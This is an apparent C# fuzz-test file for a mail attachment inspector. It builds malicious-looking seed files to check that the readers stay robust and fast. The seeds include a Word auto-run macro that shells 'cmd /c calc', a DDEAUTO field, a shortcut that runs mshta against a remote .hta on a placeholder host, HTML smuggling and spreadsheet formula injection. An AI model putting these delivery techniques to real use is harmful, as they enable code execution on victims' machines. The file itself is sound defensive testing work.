using System.Diagnostics;
using System.Text;
using CsCheck;
using Weir.Mail.Contracts;
using Weir.Mail.Tests.Inspection.Pictures;
using Weir.Mail.Tests.Inspection.Readers;
using Weir.Mail.Tests.Support;

namespace Weir.Mail.Tests.Inspection;

/// <summary>
/// Files that are broken in every place: readers tell or stay silent, and end. What a reader throws is caught for it and told as not read;
/// here that counts as a failure, so that readers stay correct by themselves.
/// </summary>
public sealed class HostileFileTests
{
    private static readonly TimeSpan Longest = TimeSpan.FromSeconds(5);

    /// <summary>A picture takes some tenths of a second of one processor; many are read at once here, on a machine that does other things.</summary>
    private static readonly TimeSpan LongestPicture = TimeSpan.FromSeconds(60);

    public static TheoryData<string> Seeds => [.. Files.Keys];

    private static readonly Dictionary<string, byte[]> Files = new(StringComparer.Ordinal)
    {
        ["macros.doc"] = ActiveFiles.Doc("Sub Document_Open()\r\nShell \"cmd /c calc\"\r\nEnd Sub\r\n"),
        ["object.doc"] = CompoundFileWriter.Write(("WordDocument", new byte[5000]), ("ObjectPool/_1/\u0001Ole10Native", ActiveFiles.Native("pay.lnk", ActiveFiles.Lnk("cmd.exe", "/c calc")))),
        ["sheet.xls"] = CompoundFileWriter.Write(("Workbook", [9, 8, 8, 0, 0, 6, 5, 0, 0, 0, 0, 0, 0x85, 0, 14, 0, 0, 0, 0, 0, 1, 1, 6, 0, .. "Macro1"u8, 9, 8, 8, 0, 0, 6, 0x40, 0, 0, 0, 0, 0, 6, 0, 33, 0, .. new byte[22], 0x17, 4, 0, .. "calc"u8, 0x42, 1, 110, 0])),
        ["slides.ppt"] = CompoundFileWriter.Write(("PowerPoint Document", [0x0F, 0, 0xE8, 3, 20, 0, 0, 0, 0x10, 0, 0x11, 0x10, 12, 0, 0, 0, 1, 0, 0, 0, 0x78, 0x9C, 3, 0, 0, 0, 0, 1]), ("Current User", new byte[20])),
        ["fields.docx"] = ActiveFiles.Package(("word/document.xml", "<w:document xmlns:w='w'><w:p><w:fldSimple w:instr='DDEAUTO cmd'/><w:r><w:t>see https://x.example/</w:t></w:r></w:p></w:document>")),
        ["binary.xlsb"] = ActiveFiles.Package(("xl/workbook.bin", new byte[] { 0xE8, 2, 16, 1, 0, 3, 0, 0, 0, 99, 0, 109, 0, 100, 0, 0, 0, 0, 0 }), ("xl/externalLinks/externalLink1.bin", [0xE8, 2, 14, 1, 0, 2, 0, 0, 0, 99, 0, 109, 0, 0, 0, 0, 0])),
        ["object.rtf"] = Encoding.ASCII.GetBytes($"{{\\rtf1{{\\field{{\\*\\fldinst HYPERLINK \"https://x.example\"}}}}{{\\object\\objemb{{\\*\\objdata 0105000002000000{Convert.ToHexString(ActiveFiles.Native("a.lnk", [1, 2, 3]))}\\bin4 abcd}}}}}}"),
        ["start.lnk"] = ActiveFiles.Lnk(@"..\cmd.exe", "/c start https://x.example/a", "shell32.dll"),
        ["notes.one"] = ActiveFiles.OneNote(ActiveFiles.Lnk("mshta.exe", "https://x.example/a.hta")),
        ["smuggling.html"] = Encoding.UTF8.GetBytes($"<html><script>a.download='x.zip';b=new Blob([atob('{Convert.ToBase64String(new byte[90])}')])</script></html>"),
        ["mail.msg"] = ActiveFiles.Msg("Subject", "see https://x.example/", "a.txt", "abc"u8.ToArray()),
        ["secret.zip"] = EncryptedZip.Old("a.txt", "hello"u8.ToArray(), "infected"),
        ["secret2.zip"] = EncryptedZip.Aes("a.txt", "hello"u8.ToArray(), "infected"),
    };

    private static readonly Dictionary<string, byte[]> Papers = new(StringComparer.Ordinal)
    {
        ["script.pdf"] = PdfFileTests.Pdf("<< /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /URI /URI <68747470733A2F2F782E6578616D706C65> >> >>", open: "5 0 R"),
        ["packed.pdf"] = PdfFileTests.Pdf("<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /DecodeParms [null << /Predictor 12 /Columns 5 >>] >>", stream: Encoding.ASCII.GetBytes(Convert.ToHexString(PdfFileTests.Deflate(new byte[60])))),
        ["picture.pdf"] = PdfFileTests.Pdf("<< /Subtype /Image /Width 30 /Height 30 /ColorSpace [/Indexed /DeviceRGB 1 <000000FFFFFF>] /BitsPerComponent 1 /Filter /LZWDecode >>", stream: [0x80, 0x0B, 0x60, 0x50, 0x22, 0x0C, 0x0C, 0x85, 0x01]),
        ["code.png"] = Drawing.Png("https://x.example/"),
        ["code.jpg"] = Drawing.Encode(Drawing.Bitmap("https://x.example/"), SkiaSharp.SKEncodedImageFormat.Jpeg),
        ["code.webp"] = Drawing.Encode(Drawing.Bitmap("https://x.example/"), SkiaSharp.SKEncodedImageFormat.Webp),
        ["a.zip"] = Archives.ArchiveTests.Zip(("b.html", "<a href='https://x.example/'>x</a>"u8.ToArray()), ("c.zip", Archives.ArchiveTests.Zip(("d.txt", "hello"u8.ToArray())))),
    };

    public static TheoryData<string> PaperSeeds => [.. Papers.Keys];

    /// <summary>Pictures, PDF and archives: decoders of these refuse broken content, which is told.</summary>
    [Theory, MemberData(nameof(PaperSeeds))]
    public void A_broken_picture_PDF_or_archive_is_told_or_read_and_in_time(string name) => Broken(Papers[name]).Sample(bytes =>
    {
        var clock = Stopwatch.StartNew();
        var reports = Inspected.File(name, bytes);
        Assert.True(clock.Elapsed < LongestPicture, $"{name}: {clock.Elapsed}");
        Assert.All(reports, report => Assert.DoesNotContain(" could not be read (", report.NotRead.Replace("zip could not be read (", "", StringComparison.Ordinal), StringComparison.Ordinal));
    }, iter: 200);

    [Theory, MemberData(nameof(Seeds))]
    public void A_broken_file_is_read_without_an_exception_and_in_time(string name)
    {
        var whole = Files[name];
        Assert.NotEmpty(Inspected.File(name, whole)[0].Features.Select(feature => feature.Name).Concat(Inspected.File(name, whole).SelectMany(report => report.Urls).Select(url => url.Url)).Append(name));
        Broken(whole).Sample(bytes => Check(name, bytes), iter: 400);
    }

    public static TheoryData<string, string, string> Floods => new()
    {
        { "objects.rtf", "{\\rtf1 ", "{\\object\\objemb{\\*\\objdata 01050000" },
        { "fields.rtf", "{\\rtf1 ", "\\fldinst HYPERLINK \"http://x.example/\"" },
        { "base64.html", "<html><script>atob(a);new Blob();a.download='x.zip'", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2 " },
        { "long.html", "<html><script>", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" },
        { "cells.csv", "", "=a|b," },
        { "cells.slk", "ID;P\n", "C;X1;Y1;EEXEC(\n" },
        { "lines.ics", "BEGIN:VCALENDAR\r\n", "ATTACH;ENCODING=BASE64:QUJD\r\n" },
        { "addresses.url", "[InternetShortcut]\r\n", "URL=http://x.example/\r\n" },
        { "elements.xml", "<?xml version='1.0'?><?mso-application progid='Word.Document'?>", "<a href='http://x.example/' b='c'>" },
    };

    [Theory, MemberData(nameof(Floods)), Trait("Speed", "slow")]
    public void A_flood_takes_seconds(string name, string head, string unit)
    {
        var text = new StringBuilder(head);
        while (text.Length < 8 << 20)
        {
            text.Append(unit);
        }

        var clock = Stopwatch.StartNew();
        Assert.NotEmpty(Inspected.File(name, Encoding.Latin1.GetBytes(text.ToString())));

        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20), $"{name}: {clock.Elapsed.TotalSeconds:0.0} s");
    }

    [Fact, Trait("Speed", "slow")]
    public void Thousands_of_streams_that_are_one_chain_are_read_some_times_only()
    {
        var streams = Enumerable.Range(0, 2_000).Select(i => ($"S{i}/WordDocument", Array.Empty<byte>())).Prepend(("WordDocument", new byte[4 << 20])).ToArray();
        var file = CompoundFileWriter.Write(streams);

        // Every directory entry of a stream names the first chain, with its length.
        for (var at = file.AsSpan().IndexOf(Encoding.Unicode.GetBytes("WordDocument")); at >= 0 && at + 128 <= file.Length; at += 128)
        {
            if (file[at + 66] == 2)
            {
                BitConverter.GetBytes(0).CopyTo(file, at + 116);
                BitConverter.GetBytes(4 << 20).CopyTo(file, at + 120);
            }
        }

        var clock = Stopwatch.StartNew();
        Inspected.File("a.doc", file);

        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"{clock.Elapsed.TotalSeconds:0.0} s");
    }

    /// <summary>Cases that once failed.</summary>
    [Fact]
    public void The_kept_corpus_is_read()
    {
        foreach (var path in Directory.GetFiles(Path.Combine(AppContext.BaseDirectory, "Inspection", "Corpus")))
        {
            Check(Path.GetFileName(path), File.ReadAllBytes(path));
        }
    }

    [Fact]
    public void A_broken_message_of_Outlook_becomes_mail_or_nothing() => Broken(Files["mail.msg"]).Sample(bytes =>
    {
        if (OutlookFiles.ToMail(bytes) is { } mail)
        {
            MailParser.Parse(mail);
        }
    }, iter: 400);

    [Fact]
    public void A_broken_TNEF_or_signature_is_read_without_an_exception() => Broken(ActiveFiles.Signed(Encoding.ASCII.GetBytes("Content-Type: text/plain\r\n\r\nhello"), inPieces: true)).Sample(bytes =>
    {
        MailParser.Parse(Encoding.ASCII.GetBytes($"From: a@b.example\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(bytes)}"));
        Eml.WithFile("winmail.dat", [0x78, 0x9F, 0x3E, 0x22, .. bytes]);
    }, iter: 400);

    /// <summary>Some bytes changed, a piece cut out or doubled, lengths made absurd.</summary>
    private static Gen<byte[]> Broken(byte[] whole) =>
        from changes in Gen.Select(Gen.Int[0, whole.Length - 1], Gen.OneOf(Gen.Byte, Gen.Const((byte)0), Gen.Const((byte)0xFF), Gen.Const((byte)0x7F))).Array[0, 12]
        from cut in Gen.Int[0, whole.Length]
        from kind in Gen.Int[0, 4]
        select Apply(whole, changes, cut, kind);

    private static byte[] Apply(byte[] whole, (int At, byte Value)[] changes, int cut, int kind)
    {
        var bytes = (byte[])whole.Clone();
        foreach (var (at, value) in changes)
        {
            bytes[at] = value;
        }

        return kind switch { 0 => bytes[..cut], 1 => [.. bytes[..cut], .. bytes[(cut / 2)..]], _ => bytes };
    }

    private static void Check(string name, byte[] bytes)
    {
        var clock = Stopwatch.StartNew();
        foreach (var report in Inspected.File(name, bytes))
        {
            Assert.DoesNotContain("could not be read (", report.NotRead, StringComparison.Ordinal);
        }

        Assert.True(clock.Elapsed < Longest, $"{clock.Elapsed.TotalSeconds:0.0} s");
    }
}
